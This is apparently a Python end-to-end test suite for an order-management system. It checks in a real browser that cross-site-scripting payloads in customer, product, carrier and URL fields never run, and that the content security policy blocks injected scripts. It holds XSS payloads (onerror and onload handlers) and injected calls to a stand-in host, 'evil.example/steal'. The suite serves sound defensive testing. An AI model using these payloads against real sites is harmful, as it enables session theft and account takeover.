"""Texts of customers, channels, crews and carriers on every page that shows them, in a real browser (I5; issue 5: XSS in every
text a customer or channel can set). Nothing runs, nothing even tries to (no policy violation), and the text can be read."""

from __future__ import annotations

import asyncio
import hmac
import json
import mailbox
import re
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from email import message_from_bytes
from email import policy as mail_policy
from typing import Any

import asyncpg
import httpx
import pytest
from expedite_e2e import System, eventually, order
from expedite_security.hostile import MARKUP, Watched, watched
from expedite_security.schemes import standard
from playwright.sync_api import Browser, Route, expect

IMG, SCRIPT, SVG, TITLE, LINK, ENTITY, BRACES, FOCUS, FRAME, BASE = MARKUP


def hostile_order(**changes: Any) -> dict[str, Any]:
    """Every text a channel may set about an order tries to be markup."""
    body = order(
        note=f"{TITLE} {FRAME}", tags=[IMG, "urgent"], carrier_preference=SVG, shipping_method=SCRIPT,
        lines=[{"sku": "XSS-1", "name": f"{SCRIPT} {BRACES}", "quantity": 1, "unit_price": "2.55"}],
    )  # fmt: skip
    body["customer"] |= {"name": f"{IMG} {uuid.uuid4().hex[:6]}", "company": SVG}
    body["customer"]["ship_to"] |= {"line1": SCRIPT, "line2": FOCUS, "region": ENTITY}
    return body | changes


@pytest.fixture(scope="module")
def product(system: System) -> str:
    """A product whose name and class are hostile, in stock; known to intake."""
    name = f"{SVG} {ENTITY}"
    with system.client("inventory") as inventory:
        body = {
            "name": name,
            "names": {"zh": TITLE},
            "barcodes": ["XSSBAR1"],
            "product_class": "<b data-xss>",
            "weight_g": 100,
        }
        inventory.put("/products/XSS-1", json=body).raise_for_status()
        stock = {
            "reference": f"xss-{uuid.uuid4().hex}",
            "reason": IMG,
            "lines": [{"sku": "XSS-1", "warehouse_id": "LON", "quantity": 50}],
        }
        inventory.post("/stock/opening", json=stock).raise_for_status()

    async def known() -> bool:
        connection = await asyncpg.connect(system.state["databases"]["order-intake"])
        try:
            return bool(await connection.fetchval("SELECT EXISTS (SELECT FROM product WHERE sku = 'XSS-1')"))
        finally:
            await connection.close()

    with ThreadPoolExecutor(1) as elsewhere:  # the browser has this thread's loop
        eventually(lambda: elsewhere.submit(asyncio.run, known()).result(), "intake knowing the product")
    return name


@pytest.fixture(scope="module")
def held(system: System, product: str) -> str:
    """An order that waits for a postcode: it stays on the board and on the customer's page."""
    body = hostile_order()
    del body["customer"]["ship_to"]["postcode"]
    with system.client("order-intake") as intake:
        answer = intake.post("/orders", json=body)
        assert answer.status_code == 202, answer.text
        return str(answer.json()["order_id"])


@pytest.fixture(scope="module")
def travelling(system: System, product: str) -> dict[str, str]:
    """An order on its way whose carrier is hostile too; with the number of its parcel."""
    with (
        system.client("order-intake") as intake,
        system.client("fulfillment", "crew") as floor,
        system.client("shipping") as dock,
    ):

        def known() -> str | None:
            posted = intake.post("/orders", json=hostile_order())
            found = intake.get(f"/orders/{posted.json()['order_id']}").json()
            return str(found["order_id"]) if found["state"] == "received" else None

        order_id = eventually(known, "intake knowing the product")

        def picked() -> bool:
            for job in floor.get(f"/orders/{order_id}/fulfilment").json().get("fulfilment_orders", ()):
                path = f"/fulfilment-orders/{job['fulfilment_order_id']}"
                floor.post(f"{path}/scans", json={"by": "tom", "scans": [{"barcode": "XSSBAR1", "quantity": 1}]})
                floor.post(f"{path}/pack", json={"by": "tom"})
            return bool(dock.get(f"/orders/{order_id}/parcels").json().get("items"))

        eventually(picked, "the parcel")

        def handed() -> dict[str, Any] | None:
            parcel = dock.get(f"/orders/{order_id}/parcels").json()["items"][0]
            answer = dock.post(f"/parcels/{parcel['parcel_id']}/hand-over", json={"by": "tom"})
            return parcel["label"] if answer.status_code == 200 and parcel["label"] else None

        label = eventually(handed, "the hand-over")
        answer = tell(system, dock, label["carrier_id"], label["tracking_number"], dock.get("/parcels").json()["now"])
        assert answer.status_code == 200, answer.text
    return {"order_id": order_id, "tracking_number": label["tracking_number"]}


def tell(system: System, dock: httpx.Client, carrier: str, number: str, now: str) -> httpx.Response:
    """A delay, in the carrier's own format and truly signed, with markup wherever it has words of its own."""
    secret, token = system.secrets["webhooks"][carrier], uuid.uuid4().hex
    words = {"location": SVG, "message": f"{IMG} {SCRIPT}", "signed_by": FRAME}
    if secret.startswith("whsec_"):
        told: dict[str, Any] = {
            "id": f"evt-{token}", "tracking_number": number, "status": "delivery_delayed", "occurred_at": now,
            "expected_at": "2031-01-01T00:00:00Z", **words,
        }  # fmt: skip
        body = json.dumps(told).encode()
        headers = standard(body, secret, int(time.time()), f"m-{token}")
        return dock.post(f"/webhooks/native/{carrier}", content=body, headers=headers)
    step = {"status": "in_transit", "status_detail": "delayed", "datetime": now, "message": words["message"],
            "tracking_location": {"city": SVG, "country": IMG}}  # fmt: skip
    tracker = {"tracking_code": number, "status": "in_transit", "status_detail": "delayed", "signed_by": FRAME,
               "est_delivery_date": "2031-01-01T00:00:00Z", "updated_at": now, "tracking_details": [step]}  # fmt: skip
    body = json.dumps({"id": f"evt_{token}", "description": "tracker.updated", "result": tracker}).encode()
    signature = f"hmac-sha256-hex={hmac.new(secret.encode(), body, 'sha256').hexdigest()}"
    return dock.post(f"/webhooks/easypost/{carrier}", content=body, headers={"x-hmac-signature": signature})


@pytest.fixture
def page(browser: Browser) -> Iterator[Watched]:
    found = watched(browser)
    yield found
    found.page.context.close()


def log_in(system: System, page: Watched) -> None:
    page.page.goto(system.urls["control-tower"])
    page.page.get_by_label(re.compile("password", re.IGNORECASE)).fill(system.login["password"])
    page.page.get_by_role("button", name=re.compile("(log|sign) in", re.IGNORECASE)).click()
    expect(page.page.locator("[data-stage]").first).to_be_visible(timeout=60_000)


def serve(page: Watched, url: str, text: str, policy: str = "") -> None:
    """Let the browser find this text at an address."""
    headers = {"content-type": "text/html; charset=utf-8"} | ({"content-security-policy": policy} if policy else {})

    def answer(route: Route) -> None:
        route.fulfill(body=text, headers=headers)

    page.page.unroute_all()
    page.page.route(url, answer)


def test_the_watcher_sees_what_runs(browser: Browser, page: Watched) -> None:
    """The guard of these tests, seen red: every payload that is markup is noticed on a page that believes it, by running, by
    being blocked, or by being an element."""
    for text in (IMG, SCRIPT, SVG, TITLE, LINK, FRAME):
        for policy in ("", "default-src 'self'"):
            serve(page, "http://believer.test/", f"<!doctype html><body>{text}", policy)
            page.page.goto("http://believer.test/")
            with pytest.raises(AssertionError):
                page.harmless(text)
            page.seen.clear()


def test_the_board_and_its_order_page(system: System, page: Watched, held: str) -> None:
    """H1, H3, I5: cards, search, the order's page with its timeline, holds and reasons."""
    log_in(system, page)
    page.page.goto(f"{system.urls['control-tower']}/?q={held}")
    expect(page.page.locator(f"[data-order='{held}']").first).to_be_visible(timeout=60_000)
    page.harmless(IMG)
    page.page.goto(
        f"{system.urls['control-tower']}/?q=%3Cimg%20src%3Dx%20data-xss%20onerror%3D__ran(1)%3E&channel=%22%3E%3Csvg%20onload%3D__ran(2)%3E"
    )
    page.page.wait_for_timeout(500)
    page.harmless()
    page.page.goto(f"{system.urls['control-tower']}/orders/{held}")
    expect(page.page.get_by_text(re.compile("held \\(needs_info\\)")).first).to_be_visible(timeout=60_000)
    page.harmless(IMG)


def test_needs_action_and_unknown_addresses(system: System, page: Watched, held: str) -> None:
    """H2, I5: the list of exceptions; an address made of markup."""
    log_in(system, page)
    page.page.goto(f"{system.urls['control-tower']}/needs-action")
    eventually(lambda: page.page.locator(f"[data-order='{held}']").count(), "the order among the exceptions", 60)
    page.harmless()
    page.page.goto(f"{system.urls['control-tower']}/orders/%3Cimg%20src=x%20onerror=__ran(1)%20data-xss%3E")
    page.page.wait_for_timeout(1000)
    page.harmless()


def test_the_order_page_of_a_parcel_on_its_way(system: System, page: Watched, travelling: dict[str, str]) -> None:
    """H3, F3, I5: what crews and carriers said."""
    log_in(system, page)
    page.page.goto(f"{system.urls['control-tower']}/orders/{travelling['order_id']}")
    expect(page.page.get_by_text(travelling["tracking_number"]).first).to_be_visible(timeout=60_000)
    page.harmless(IMG)


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_customers_page(
    system: System, page: Watched, held: str, travelling: dict[str, str], language: str
) -> None:
    """G3, I5: what was ordered, what is asked, what the carrier says; both languages; the answer of a refused form."""
    with system.client("notifier") as notifier:
        links = {i: notifier.get(f"/orders/{i}/status-link").json()["url"] for i in (held, travelling["order_id"])}
    eventually(
        lambda: page.page.goto(f"{links[held]}?lang={language}").status == 200 and page.page.locator("form").count(),
        "the page",
    )
    page.harmless()
    page.page.locator("input[name='customer.ship_to.postcode']").fill(IMG)
    page.page.locator("input[name='customer.name']").fill(SCRIPT)
    with page.page.expect_response(lambda answer: "/completion" in answer.url and answer.request.method == "POST"):
        page.page.locator("form[data-action=completion] button").click()
    page.harmless()
    page.page.goto(f"{links[travelling['order_id']]}?lang={language}")
    page.harmless(SCRIPT, travelling["tracking_number"])
    for address in page.page.locator("a").evaluate_all("all => all.map(a => a.href)"):
        assert address.startswith(("http://127.0.0.1", "https://")), address
    page.page.goto(f"{links[held]}?lang=%22%3E%3Csvg%20onload=__ran(1)%20data-xss%3E")
    page.harmless()
    refused = page.page.goto(f"{system.urls['notifier']}/s/%3Cimg%20src=x%20onerror=__ran(1)%3E")
    assert refused is not None and refused.status == 404
    page.harmless()


def test_the_scanner_page(system: System, page: Watched, product: str) -> None:
    """E2, I5: the queue and a job, whose product, customer and shop are hostile; a code that is markup."""
    with system.client("order-intake") as intake, system.client("fulfillment", "crew") as floor:
        order_id = intake.post("/orders", json=hostile_order()).json()["order_id"]
        eventually(lambda: floor.get(f"/orders/{order_id}/fulfilment").json().get("fulfilment_orders"), "the work")
    page.page.goto(system.urls["fulfillment"] + "/scanner")
    page.page.evaluate(
        "([key]) => { sessionStorage.setItem('key', key); sessionStorage.setItem('by', 'tom'); sessionStorage.setItem('warehouse', 'LON'); }",
        [system.state["api_keys"]["crew"]],
    )
    page.page.goto(system.urls["fulfillment"] + "/scanner")
    page.page.locator("#tasks button", has_text=order_id).first.click(timeout=60_000)
    expect(page.page.locator("#lines li").first).to_be_visible(timeout=60_000)
    page.harmless("XSSBAR1")
    page.page.locator("#code").fill(f"{IMG}{SCRIPT}")
    page.page.keyboard.press("Enter")
    expect(page.page.locator("#feedback")).not_to_be_empty(timeout=60_000)
    page.harmless()


def mails(system: System) -> list[Any]:
    found = []
    for path in sorted((system.home / "mail").glob("*.mbox")):
        box = mailbox.mbox(path, create=False)
        found += [message_from_bytes(bytes(message), policy=mail_policy.default) for message in box]
    return found


def test_mails_are_text_whatever_is_in_them(
    system: System, browser: Browser, held: str, travelling: dict[str, str]
) -> None:
    """G1, G6, I5: every HTML mail about hostile orders, opened in a browser without any policy, as a mail reader might."""
    orders = {held, travelling["order_id"]}
    eventually(lambda: {m["X-Expedite-Order"] for m in mails(system)} >= orders, "the mails")
    about = [m for m in mails(system) if m["X-Expedite-Order"] in orders]
    assert len(about) >= 3
    page = watched(browser)
    shown = 0
    for mail in about:
        text = mail.get_body(("html",)).get_content()
        serve(page, "http://mail.test/", text)
        page.page.goto("http://mail.test/")
        page.harmless()
        shown += IMG.casefold() in page.page.evaluate("document.body.innerText").casefold()
        for address in page.page.locator("a").evaluate_all("all => all.map(a => a.href)"):
            assert address.startswith(("http://", "https://")), address
    assert shown, "no mail names the customer: nothing was proved"
    page.page.context.close()


@pytest.mark.parametrize("service", ["control-tower", "fulfillment", "notifier"])
def test_the_policy_of_every_page_holds(system: System, page: Watched, held: str, service: str) -> None:
    """I5 (CSP effective): even if a text became markup: inline scripts, handlers, foreign scripts, frames, plug-ins, base
    addresses and forms to elsewhere do nothing."""
    with system.client("notifier") as notifier:
        link = notifier.get(f"/orders/{held}/status-link").json()["url"]
    page.page.goto(
        {
            "control-tower": system.urls["control-tower"],
            "fulfillment": system.urls["fulfillment"] + "/scanner",
            "notifier": link,
        }[service]
    )
    page.page.evaluate(
        """() => {
          const add = (tag, set) => { const made = document.createElement(tag); Object.assign(made, set); document.body.append(made); return made; };
          add("script", { textContent: "window.__inline = 1" });
          add("script", { src: "https://evil.example/x.js" });
          const image = add("img", {}); image.setAttribute("onerror", "window.__inline = 2"); image.src = "data:,x";
          add("iframe", { src: "https://evil.example/" });
          add("object", { data: "https://evil.example/x.swf" });
          const link = add("a", { href: "javascript:window.__inline = 3" }); link.click();
          fetch("https://evil.example/steal").catch(() => {});
        }"""
    )
    page.page.wait_for_timeout(500)
    assert page.page.evaluate("window.__inline") is None
    blocked = page.page.evaluate("window.__seen")
    assert len([seen for seen in blocked if seen.startswith("blocked")]) >= 5, blocked
    assert not [seen for seen in blocked if seen.startswith("ran")]


def test_problems_are_no_pages(system: System) -> None:
    """I5: a refusal repeats nothing it was sent, and is not HTML, whoever asks."""
    for service in system.urls:
        with system.client(service) as http:
            for path in ("/<script>__ran(1)</script>", "/orders/<img onerror=1>", "/problems/<svg onload=1>"):
                answer = http.get(path, headers={"accept": "text/html"})
                assert answer.headers["content-type"] in ("application/problem+json", "text/html; charset=utf-8")
                if "html" in answer.headers["content-type"]:
                    assert service == "control-tower" and "<img onerror" not in answer.text  # the board's one page
                else:
                    assert "<svg" not in answer.text and "<script" not in answer.text and "<img" not in answer.text
    assert (
        httpx.get(system.urls["order-intake"] + "/problems/unknown-order", headers={"accept": "text/html"}).text.count(
            "<script"
        )
        == 0
    )
